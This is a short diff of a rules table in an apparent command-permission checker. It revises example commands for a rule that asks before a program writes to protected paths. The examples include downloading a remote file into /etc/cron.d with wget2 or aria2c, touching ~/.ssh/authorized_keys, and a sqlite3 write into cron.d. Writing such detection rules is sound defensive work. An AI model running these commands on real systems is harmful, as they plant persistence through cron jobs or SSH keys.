@@ -47,10 +47,10 @@ RULES = (
         ASK,
         "gives the path of a protected file to a program that may write it",
         match=(
-            "aria2c -o /etc/cron.d/x https://x.example/x",
+            "wget2 -O /etc/cron.d/x https://x.example/x",
             "mytool ~/.ssh/authorized_keys",
             "sqlite3 :memory: '.once /etc/cron.d/x' 'select 1'",
-            "make DESTDIR=/etc/cron.d install",
+            "scrot /etc/cron.d/x",
         ),
         not_match=(
             "aria2c -o x.zip https://x.example/x",
